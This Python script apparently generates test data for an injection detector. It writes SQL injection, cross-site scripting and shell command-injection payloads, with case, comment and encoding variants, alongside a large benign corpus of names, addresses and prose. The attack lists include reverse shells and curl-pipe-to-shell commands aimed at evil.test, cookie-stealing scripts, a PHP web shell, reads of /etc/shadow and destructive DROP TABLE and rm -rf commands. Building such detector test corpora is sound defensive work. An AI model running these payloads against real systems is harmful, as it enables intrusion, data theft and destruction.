#!/usr/bin/env python3
"""Writes the injection-detector corpus (src/test/resources/validation/corpus/*.txt) from the templates below.

Every template was written for Bulwark; variants are generated from them (case, blanks, encodings, comment
obfuscation, the context an attacker closes). Deterministic: a fixed seed, so a re-run gives the same files.
Run: python3 bulwark-core/src/test/corpus/generate.py
"""
import os, random, urllib.parse

rnd = random.Random(20240505)
OUT = os.path.join(os.path.dirname(__file__), "..", "resources", "validation", "corpus")

def case_mix(s):
    return "".join(c.upper() if rnd.random() < 0.5 else c.lower() for c in s)

def pct(s, all_chars=False):
    return "".join("%%%02X" % ord(c) if (all_chars or c in " '\"<>;|&`$()") and ord(c) < 128 else c for c in s)

# ---------------------------------------------------------------- SQL
sql_core = [
    "' OR 1=1--", "' OR '1'='1", "\" OR \"x\"=\"x", "' OR 'bulwark'='bulwark'#", "') OR ('a'='a",
    "admin'--", "admin' #", "tenant'/*", "' OR 2>1--", "' OR 7 BETWEEN 1 AND 9--", "') OR 1=1 LIMIT 1--",
    "1 OR 1=1", "0 OR 5=5", "-1 OR 3<>4", "' AND 1=0 UNION SELECT NULL--",
    "' UNION SELECT username, password_hash FROM users--", "' UNION ALL SELECT NULL,NULL,NULL--",
    "1 UNION SELECT table_name FROM information_schema.tables", "-7 UNION SELECT 1,2,version()--",
    "' UNION SELECT email FROM accounts WHERE role='owner'--", "x' UNION DISTINCT SELECT 1--",
    "'; DROP TABLE projects;--", "1; DROP TABLE users", "'; DELETE FROM sessions WHERE 1=1;--",
    "'; INSERT INTO users (email, role) VALUES ('me@evil.test','owner');--",
    "'; UPDATE users SET role='owner' WHERE email='me@evil.test';--", "1; SHUTDOWN--",
    "'; EXEC xp_cmdshell 'dir';--", "'; DECLARE @q VARCHAR(99); SET @q='x'; EXEC(@q);--",
    "' AND SLEEP(5)--", "1 AND SLEEP(3)", "'; SELECT pg_sleep(4);--", "' OR pg_sleep(6)--",
    "'; WAITFOR DELAY '0:0:5';--", "1; WAITFOR TIME '23:59:59'", "' AND BENCHMARK(5000000,MD5('a'))--",
    "' AND extractvalue(1, concat(0x7e, version()))--", "' AND updatexml(1, concat(0x3a, user()), 1)--",
    "' AND (SELECT COUNT(*) FROM information_schema.columns) > 0--", "' ORDER BY 3--", "' GROUP BY id HAVING 1=1--",
    "' AND ASCII(SUBSTRING((SELECT password_hash FROM users LIMIT 1),1,1)) > 64--",
    "' OR EXISTS(SELECT 1 FROM users WHERE email LIKE 'a%')--", "' UNION SELECT LOAD_FILE('/etc/passwd')--",
    "' INTO OUTFILE '/var/www/shell.php'--", "1 AND 1=(SELECT 1 FROM sqlite_master)",
    "' AND 1=CAST((SELECT current_user) AS int)--", "' || pg_sleep(5) || '", "' + SLEEP(5) + '",
    "x' AND 'a' LIKE 'a", "' OR id IS NOT NULL--", "' OR role IN ('owner','admin')--",
    "\" OR 1=1 --", "1' AND '1'='1", "2' OR '3'>'1", "'=' OR '", "' OR ''='", "admin')--",
    "' OR TRUE--", "' OR 1--", "1)) OR ((1=1", "';SELECT @@version--", "' AND 1=CONVERT(int,@@version)--",
    "' UNION SELECT name FROM sysobjects WHERE xtype='U'--", "' AND (SELECT 1 FROM pg_catalog.pg_user)=1--",
    "'; CREATE TABLE leak(x text);--", "'; ALTER TABLE users ADD x int;--", "'; TRUNCATE TABLE audit_log;--",
    "' RLIKE (SELECT 1)--", "1 XOR 1=1", "' AND dbms_pipe.receive_message('a',5)=1--",
    "' OR 1=utl_inaddr.get_host_address('x.evil.test')--", "' AND randomblob(500000000)--",
]
def sql_variants(p):
    out = {p, p.lower(), case_mix(p), p.replace(" ", "/**/"), p.replace(" ", "  "), p.replace(" ", "\t"),
           pct(p), "name" + p, "Acme Corp" + p, p.replace("SELECT", "SEL/**/ECT").replace("UNION", "UN/**/ION"),
           p.replace(" ", "\n")}
    if "UNION" in p:
        out.add(p.replace("UNION", "/*!50000UNION*/"))
    return out
sql = set()
for p in sql_core:
    sql |= sql_variants(p)

# ---------------------------------------------------------------- script / HTML
js = ["alert(1)", "alert(document.cookie)", "prompt(8)", "confirm`1`", "fetch('//evil.test/'+document.cookie)",
      "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "document.location='//evil.test'",
      "new Image().src='//evil.test/?'+document.cookie", "setTimeout('alert(2)')"]
xss_tpl = [
    "<script>{js}</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script>{js}//", "</title><script>{js}</script>",
    "</textarea><script>{js}</script>", "<img src=x onerror={js}>", "<img src=\"x\" onerror=\"{js}\">",
    "<svg onload={js}>", "<svg/onload={js}>", "<body onload={js}>", "<iframe src=\"javascript:{js}\"></iframe>",
    "<a href=\"javascript:{js}\">click</a>", "<a href=javascript&colon;{js}>x</a>", "<div onmouseover=\"{js}\">hover</div>",
    "\"><img src=x onerror={js}>", "'><svg onload={js}>", "\" onfocus=\"{js}\" autofocus=\"", "' onmouseover='{js}'",
    "<input autofocus onfocus={js}>", "<details open ontoggle={js}>", "<video><source onerror=\"{js}\">",
    "<object data=\"javascript:{js}\">", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js}\">", "<base href=\"//evil.test/\">",
    "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import 'javascript:{js}';</style>",
    "<div style=\"width: expression({js})\">", "<x onclick={js}>click me</x>", "<math><mtext><script>{js}</script>",
    "';{js}//", "\";{js};//", "\"-{js}-\"", "'+{js}+'", "${{{js}}}", "{{{{constructor.constructor('{js}')()}}}}",
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;", "\\x3cscript\\x3e{js}\\x3c/script\\x3e", "<marquee onstart={js}>",
    "<form action=\"javascript:{js}\"><input type=submit>", "<iframe srcdoc=\"<script>{js}</script>\">",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<img src=x onerror = {js}>", "<body onpageshow={js}>",
    "vbscript:msgbox(1)", "<a href=\"data:text/html,<script>{js}</script>\">x</a>", "<![CDATA[<script>{js}</script>]]>",
    "<!--<img src=--><img src=x onerror={js}//-->", "<?php system($_GET['c']); ?>", "%3Cscript%3E{js}%3C%2Fscript%3E",
    "＜script＞{js}＜/script＞", "<scr<script>ipt>{js}</script>", "<img src=x oNeRrOr={js}>",
]
xss = set()
for t in xss_tpl:
    for j in rnd.sample(js, 5 if "{js}" in t else 1):
        v = t.replace("{js}", j)
        xss.add(v)
        if rnd.random() < 0.4:
            xss.add(case_mix(v) if "javascript" not in v.lower() or rnd.random() < 0.5 else v.upper())
        if rnd.random() < 0.3:
            xss.add("Project Phoenix " + v)

# ---------------------------------------------------------------- shell
seps = ["; ", ";", " | ", "|", " && ", "&&", " || ", "\n", "%0a", " & ", "`", "$("]
cmds = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "wget http://evil.test/x -O /tmp/x",
        "curl -s http://evil.test/i.sh | sh", "nc -e /bin/sh evil.test 4444", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
        "sleep 10", "ping -c 5 127.0.0.1", "rm -rf /srv/data", "echo pwned > /var/www/x.html", "python3 -c 'import os'",
        "powershell -enc SQBFAFgA", "cmd /c dir", "type C:\\Windows\\win.ini", "net user bulwark P4ss /add",
        "find / -perm -4000", "chmod 777 /tmp/x", "perl -e 'exec \"/bin/sh\"'", "busybox nc evil.test 9 -e sh",
        "env", "hostname", "ps aux", "tail -f /var/log/auth.log", "base64 /etc/shadow", "nslookup x.evil.test",
        "certutil -urlcache -f http://evil.test/a.exe a.exe", "kill -9 1"]
shell_tpl = ["x{sep}{cmd}", "report.pdf{sep}{cmd}", "acme{sep}{cmd}", "{sep}{cmd}", "127.0.0.1{sep}{cmd}",
             "name' {sep}{cmd} #", "\"{sep}{cmd}{sep2}\""]
shell = set()
for cmd in cmds:
    for sep in seps:
        tpl = rnd.choice(shell_tpl)
        c = cmd
        if sep == "`":
            v = tpl.replace("{sep}{cmd}", "`" + c + "`").replace("{sep2}", "")
        elif sep == "$(":
            v = tpl.replace("{sep}{cmd}", "$(" + c + ")").replace("{sep2}", "")
        else:
            v = tpl.replace("{sep}", sep).replace("{cmd}", c).replace("{sep2}", sep.strip() or ";")
        shell.add(v)
for extra in ["cat${IFS}/etc/passwd", ";{cat,/etc/passwd}", "x;cat$IFS$9/etc/passwd", "$(</etc/passwd)",
              "a`/usr/bin/id`b", "x|/bin/ls", ";/bin/cat /etc/hosts", "file.txt;ls", "a&&whoami", "x||id",
              "<(curl evil.test)", "1;sleep${IFS}7;", "`echo${IFS}x`", "x\nwget evil.test", "&ping -n 9 127.0.0.1&",
              "| powershell iex(New-Object Net.WebClient).DownloadString('http://evil.test/p')"]:
    shell.add(extra)
    shell.add(case_mix(extra) if "ifs" not in extra.lower() else extra)

# ---------------------------------------------------------------- benign
first = ["Alice", "Bob", "Zoë", "José", "François", "Mårten", "Łukasz", "Søren", "Ngozi", "Aiyana", "Mei", "Hiroshi",
         "Olga", "Dmitri", "Fatima", "Yusuf", "Priya", "Arjun", "Chloé", "Siobhán", "Seán", "Nguyễn", "Thảo", "Ana",
         "João", "Björk", "Ümit", "Đorđe", "Kwame", "Amara", "Leilani", "Raúl", "Inès", "O'Neil", "D'Arcy", "Maëlle"]
last = ["Smith", "O'Brien", "García", "Müller", "Nakamura", "Ivanova", "Dubois", "Kowalski", "Okafor", "Hansen",
        "van der Berg", "de la Cruz", "MacDonald", "Al-Hakim", "Chen", "Kim", "Núñez", "Jørgensen", "D'Angelo",
        "Smith-Jones", "Papadopoulos", "Rossi", "Yılmaz", "Singh", "Nováková", "Lefèvre", "Ó Súilleabháin"]
cjk = ["李小龙", "王芳", "佐藤 健", "山田 太郎", "김민준", "이서연", "Αλέξανδρος Παπαδόπουλος", "Иван Петров",
       "محمد علي", "דוד כהן", "สมชาย ใจดี", "Nguyễn Văn An"]
streets = ["Main Street", "Rue de Rivoli", "Hauptstraße", "Calle Mayor", "Via Roma", "Baker Street", "Nørrebrogade",
           "ul. Marszałkowska", "Avenida Paulista", "Elm Road", "King's Road", "Rue d'Alésia", "Old Kent Road"]
cities = ["London SW1A 1AA", "75001 Paris", "10115 Berlin", "28013 Madrid", "00184 Roma", "2200 København N",
          "00-001 Warszawa", "São Paulo - SP, 01310-100", "Springfield, IL 62701", "Tōkyō 100-0001", "Dublin D02 X285"]
prose = [
    "Use SELECT * sparingly: name the columns you need.",
    "Our team drops the old dashboard next quarter and selects a new vendor.",
    "The report covers sales from January to March, and the union of both regions.",
    "Please update the README and delete the stale branch.",
    "We insert a short delay between retries so the server can recover.",
    "If a user's password is weak, we ask them to choose another one.",
    "Tom & Jerry; cats and dogs; salt and pepper.",
    "Run the tests with mvn verify; they take about two minutes.",
    "The query SELECT id FROM projects is fast because of the index on tenant_id.",
    "Marketing site for the spring campaign (draft).",
    "Don't forget: the office is closed on Monday.",
    "Rock 'n' roll or jazz - whichever you prefer.",
    "She said 'hello' and left early.",
    "Prices rose 5% or more in Q3; see the appendix.",
    "JavaScript: The Good Parts is still a good read.",
    "Call alert() only for debugging, never in production code.",
    "Avoid eval() in JavaScript; it is slow and unsafe.",
    "The <b> tag is for bold text, but prefer CSS.",
    "a < b and b > c, therefore a < c.",
    "Use the | operator to combine flags.",
    "Run `mvn -q verify` before you push.",
    "Set the environment variable with export FOO=bar in your shell profile.",
    "Order by date, then group by customer.",
    "R&D budget for 2025: approved.",
    "Q&A session after the keynote.",
    "AT&T and Verizon both offer that plan.",
    "1 + 1 = 2, and 2 * 3 = 6.",
    "Meeting at 10:30 in room 4B; bring your laptop.",
    "Ask Dave - he knows where the keys are.",
    "We moved from MySQL to PostgreSQL in 2021.",
    "The cat sat on the mat; the dog slept by the door.",
    "Find the bug, fix it, and write a test.",
    "Kill two birds with one stone.",
    "Sleep well and see you tomorrow!",
    "Echo chamber effects are real on social media.",
    "The union workers met on Friday.",
    "Select a plan that fits your team.",
    "Drop me a line when you're back.",
    "Execute the plan in three phases.",
    "Table of contents; chapter 1; chapter 2.",
    "Her email is on the contact page.",
    "The function returns null when the list is empty.",
    "Use $(document).ready in old jQuery code, or DOMContentLoaded today.",
    "Write a WHERE clause that filters by tenant.",
    "Our API uses JSON; errors come as problem+json.",
    "Don't store passwords in plain text; hash them with Argon2.",
    "This is the 2nd iteration of the 'new' onboarding flow.",
    "Costs: $120/month or $1,200/year.",
    "Path: docs/guide/intro.md",
    "The script runs nightly and emails a summary.",
]
prose_other = [
    "Le projet vise à simplifier la facturation des clients.", "Nous avons livré la version 2.1 hier soir.",
    "L'équipe d'Anne s'occupe de l'intégration ; merci d'avance !", "Das Projekt läuft bis Ende März.",
    "Bitte die Datei vor dem Hochladen prüfen.", "Größe und Gewicht stehen im Datenblatt.",
    "El equipo de ventas necesita un informe semanal.", "¿Podemos reunirnos el jueves por la tarde?",
    "Il progetto è in fase di test.", "Vi ses på mandag i København.", "Projekt dotyczy migracji danych.",
    "Проект находится на стадии тестирования.", "Отчёт будет готов к пятнице.", "项目进展顺利，下周发布。",
    "请在周五之前提交报告。", "このプロジェクトは来月リリースされます。", "会議は午後三時に始まります。",
    "이 프로젝트는 다음 달에 출시됩니다.", "المشروع في مرحلة الاختبار.", "הפרויקט נמצא בשלב הבדיקות.",
    "Dự án sẽ hoàn thành vào tháng sau.", "Proje gelecek ay tamamlanacak.", "Το έργο ολοκληρώνεται τον Μάιο.",
    "O projeto está quase pronto; faltam só os testes.", "Het project loopt goed en we zijn op schema.",
    "Projektet är klart i juni.", "Hankkeen aikataulu pitää.", "A projekt határideje péntek.",
]
subjects = ["The billing service", "Our mobile app", "The onboarding flow", "The data pipeline", "This project",
            "The admin console", "The search feature", "Our webhook consumer", "The reporting job", "The landing page"]
verbs = ["handles", "imports", "exports", "validates", "summarises", "syncs", "archives", "renders", "schedules",
         "tracks"]
objects = ["invoices for EU customers", "orders from the shop", "weekly usage reports", "user feedback",
           "support tickets", "payments in three currencies", "events from the CRM", "shipping labels",
           "customer addresses", "log files older than 30 days"]
tails = [".", " every night.", " for the finance team.", " (beta).", " - see the wiki.", "; owner: Maria.",
         " in under a second.", " since v2.3.", ", with retries.", "!"]
code_prose = [
    "Tip: use SELECT {c} FROM {t} only in ad-hoc queries.", "Index {t}.{c} if you filter on it often.",
    "The {t} table has a {c} column of type text.", "Rename {c} to {c}_at in the {t} migration.",
    "We join {t} with orders on {c}.", "Count rows in {t} grouped by {c} for the dashboard.",
    "Sort {t} by {c} descending.", "Run git log --oneline -- {t}.sql to see the history of {t}.",
    "In Python, {c} = {t}.get('{c}') returns None when missing.", "Call {t}.find({c}) and check the result.",
]
tables = ["users", "projects", "invoices", "orders", "sessions", "tenants", "events", "accounts"]
cols = ["email", "created", "status", "tenant_id", "name", "amount", "updated", "owner"]

benign = set()
for f in first:
    for l in rnd.sample(last, 12):
        benign.add(f + " " + l)
for n in cjk:
    benign.add(n)
for i in range(500):
    benign.add("%d %s, %s" % (rnd.randint(1, 250), rnd.choice(streets), rnd.choice(cities)))
benign |= set(prose) | set(prose_other)
for s in subjects:
    for v in verbs:
        for o in rnd.sample(objects, 8):
            benign.add(s + " " + v + " " + o + rnd.choice(tails))
for t in code_prose:
    for _ in range(20):
        benign.add(t.format(c=rnd.choice(cols), t=rnd.choice(tables)))
for p in ["Acme", "Globex", "Initech", "Umbrella", "Hooli", "Vandelay", "Stark", "Wayne", "Tyrell", "Cyberdyne"]:
    for q in ["Corp", "GmbH", "S.A.", "Ltd.", "& Sons", "Inc.", "AB", "Oy", "K.K.", "S.p.A."]:
        benign.add(p + " " + q)
        benign.add(p + " " + q + " - internal tools")

def write(name, items):
    items = sorted(x for x in items if "\n" not in x or True)
    with open(os.path.join(OUT, name), "w", encoding="utf-8") as f:
        f.write("# Written for Bulwark by src/test/corpus/generate.py; one entry per line, \\n and \\\\ escaped.\n")
        for x in items:
            f.write(x.replace("\\", "\\\\").replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t") + "\n")
    print(name, len(items))

write("sql-attacks.txt", sql)
write("script-attacks.txt", xss)
write("shell-attacks.txt", shell)
write("benign.txt", benign)
